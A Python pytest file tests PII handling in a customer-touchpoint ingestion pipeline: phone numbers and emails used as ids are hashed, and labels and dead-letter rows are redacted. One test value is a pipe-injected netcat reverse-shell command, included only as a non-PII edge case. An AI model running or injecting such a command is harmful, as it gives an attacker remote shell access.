"""Issue 11's privacy rules: PII used as an id is hashed, attribute keys and dead-letter columns are redacted."""

from __future__ import annotations

from typing import Any

import orjson
import pytest

from streams.domain.dead_letters import dead_letter_row
from streams.domain.ingest import IngestConfig, IngestResult, Message, ingest
from streams.domain.pii import hash_pii, pii_in_id, redact_label
from tests.factories import SECRET, touchpoint

CFG = IngestConfig(SECRET, "CN", frozenset({"null", "0"}))
NOW_MS = 1_795_000_000_000
EMAIL = "bob.pii@example.com"
PHONE = "13912345678"
E164 = "+8613912345678"


def run(*events: Any, cfg: IngestConfig = CFG) -> IngestResult:
    values = [e if isinstance(e, bytes) else orjson.dumps(e) for e in events]
    return ingest([Message(v, "cx.touchpoints", 2, i, NOW_MS) for i, v in enumerate(values)], cfg, NOW_MS)


def hashed(kind: str, value: str) -> str:
    return f"{kind}:{hash_pii(SECRET, kind, value)}"


@pytest.mark.parametrize(
    ("value", "found"),
    [
        (EMAIL, ("email", EMAIL)),
        ("  Bob.PII@Example.COM ", ("email", EMAIL)),
        (PHONE, ("phone", E164)),
        ("+86 139 1234 5678", ("phone", E164)),
        ("(+86) 139-1234-5678", ("phone", E164)),
        ("0086 13912345678", ("phone", E164)),
        ("\uff11\uff13\uff19\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18", ("phone", E164)),  # full-width
        ("order for 13912345678", ("pii", "order for 13912345678")),
        ("ticket of bob.pii@example.com", ("pii", "ticket of bob.pii@example.com")),
        # numeric ids that are no phone number stay as they are
        ("1234567", None),
        ("2026112001", None),
        ("ORD-2026-1234567", None),
        ("550e8400-e29b-41d4-a716-446655440000", None),
        ("2026-11-20", None),
        ("| nc 10.0.0.1 4444 -e /bin/sh", None),
        ("evt-1", None),
    ],
)
def test_which_ids_carry_a_phone_or_an_email(value: str, found: tuple[str, str] | None) -> None:
    assert pii_in_id(value, "CN") == found


def test_phone_and_email_used_as_ids_are_stored_as_their_keyed_hash_and_counted() -> None:
    event = touchpoint(
        "contact_ended",
        event_id=EMAIL,
        identity={"customer_id": PHONE, "anonymous_id": f" {EMAIL} ", "device_id": "d-1"},
        context={
            "order_id": EMAIL,
            "case_id": "+86 139 1234 5678",
            "contact_id": "k-1",
            "agent_id": "agent 13912345678",
        },
    )
    result = run(event)
    [rec] = result.records
    assert rec.event_id == hashed("email", EMAIL)
    # The same person keeps one hash, whichever field the number arrived in.
    assert rec.customer_id == hashed("phone", E164)
    assert rec.identifiers == (f"anon:{hashed('email', EMAIL)}", "device:d-1")
    assert (rec.order_id, rec.case_id, rec.contact_id) == (hashed("email", EMAIL), hashed("phone", E164), "k-1")
    assert rec.agent_id == hashed("pii", "agent 13912345678")
    assert result.pii_hashed == {"event_id": 1, "customer_id": 1, "anonymous_id": 1, "order_id": 1, "case_id": 1,
                                 "agent_id": 1}  # fmt: skip
    assert EMAIL not in repr(rec) and PHONE not in repr(rec)


def test_a_setting_lets_named_fields_keep_a_raw_email() -> None:
    cfg = IngestConfig(SECRET, "CN", frozenset(), raw_id_fields=frozenset({"customer_id"}))
    result = run(touchpoint(identity={"customer_id": EMAIL}, context={"order_id": EMAIL}), cfg=cfg)
    [rec] = result.records
    assert (rec.customer_id, rec.order_id) == (EMAIL, hashed("email", EMAIL))
    assert result.pii_hashed == {"order_id": 1}


def test_source_keeps_its_name_with_the_phone_in_it_redacted() -> None:
    [rec] = run(touchpoint(source=f"callcentre-pbx {PHONE}")).records
    assert rec.source == "callcentre-pbx <phone>"
    assert redact_label("pos-v2 build 1234567", "CN") == "pos-v2 build 1234567"


def test_attribute_keys_are_redacted_like_values_and_never_collide() -> None:
    event = touchpoint(attributes={EMAIL: "x", PHONE: "y", "+86 139 0000 1111": "z", "note": f"mail {EMAIL}"})
    [rec] = run(event).records
    assert rec.attributes == {"<email>": "x", "<phone>": "y", "<phone>#2": "z", "note": "mail <email>"}


def test_dead_letter_columns_never_carry_a_phone_or_email() -> None:
    bad = touchpoint(event_id=f"id {PHONE}", source=f"pbx {PHONE}", channel=EMAIL)
    [dead] = run(bad).rejected
    row = dead_letter_row(dead)
    for text in (row.event_id, row.source, row.channel, row.raw, row.detail):
        assert PHONE not in text and EMAIL not in text, text
    assert (row.event_id, row.source, row.channel) == ("id <phone>", "pbx <phone>", "<email>")


@pytest.mark.parametrize("phone", ["13900001111abc", "call-me", "1390000111122223333"])
def test_a_rejected_phone_is_redacted_whatever_it_looks_like(phone: str) -> None:
    [dead] = run(touchpoint(identity={"customer_id": "C1", "phone": phone})).rejected
    row = dead_letter_row(dead)
    assert phone not in row.raw
    assert orjson.loads(row.raw)["identity"] == {"customer_id": "C1", "phone": "<phone>"}


def test_escaped_spellings_are_resolved_before_redaction_and_stored_decoded() -> None:
    email = b"bob\\u002epii\\u0040example.com"
    raw = b'{"event_id":"e1","identity":{"customer_id":"probe\\u002derase-1","email":"' + email + b'"},'
    raw += b'"note":"mail ' + email + b'"}'
    [dead] = run(raw).rejected  # not a touchpoint: a dead letter with exactly these bytes
    redacted = orjson.loads(dead_letter_row(dead).raw)
    assert redacted["identity"] == {"customer_id": "probe-erase-1", "email": "<email>"}
    assert redacted["note"] == "mail <email>"
    [dead] = run(b"not json 13912345678").rejected
    assert dead_letter_row(dead).raw == "not json <phone>"


def test_a_dead_letter_carries_whom_it_is_about_and_a_keyed_hash_of_its_payload() -> None:
    bad = touchpoint(identity={"customer_id": f" {EMAIL} ", "phone": PHONE, "device_id": "d-9"}, metrics={"csat": 9})
    [dead] = run(bad).rejected
    assert dead.subjects == (hashed("email", EMAIL), "device:d-9", f"phone:{hash_pii(SECRET, 'phone', E164)}")
    same, other = run(bad).rejected[0], run({**bad, "source": "other"}).rejected[0]
    assert same.payload_hash == dead.payload_hash != other.payload_hash
    assert len(dead.payload_hash) == 32
    assert dead_letter_row(dead).subjects == list(dead.subjects)
